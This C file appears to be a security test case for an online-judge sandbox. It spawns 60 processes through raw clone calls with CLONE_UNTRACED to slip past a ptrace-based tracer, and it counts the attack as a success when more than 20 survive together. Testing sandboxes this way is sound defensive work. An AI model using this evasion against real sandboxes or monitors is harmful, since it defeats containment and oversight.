// Starts 60 processes at a time, in ways that a tracer gets no event for. AC means that the attack
// works: more than 20 were alive together. RTE (exit-1) if there are fewer.
#include <fcntl.h>
#include <sched.h>
#include <sys/syscall.h>

#include "honest.h"

int main(void) {
  static const long ways[] = {CLONE_UNTRACED, CLONE_UNTRACED | CLONE_PTRACE};
  int ends[2];
  int hold[2];
  int alive = 0;
  char byte = 0;
  signal(SIGCHLD, SIG_IGN);
  pipe(ends);
  pipe(hold);
  for (int i = 0; i < 60; ++i) {
    if (syscall(SYS_clone, ways[i % 2] | SIGCHLD, NULL, NULL, NULL, 0L) != 0) continue;
    light_fuse();
    close(hold[1]);
    usleep(100 * 1000);
    write(ends[1], "", 1);
    read(hold[0], &byte, 1);  // until the parent has ended
    _exit(0);
  }
  usleep(300 * 1000);
  close(ends[1]);
  fcntl(ends[0], F_SETFL, O_NONBLOCK);
  while (read(ends[0], &byte, 1) == 1) ++alive;
  fprintf(stderr, "%d alive\n", alive);
  if (alive <= 20) return 1;
  print_answer();
  return 0;
}
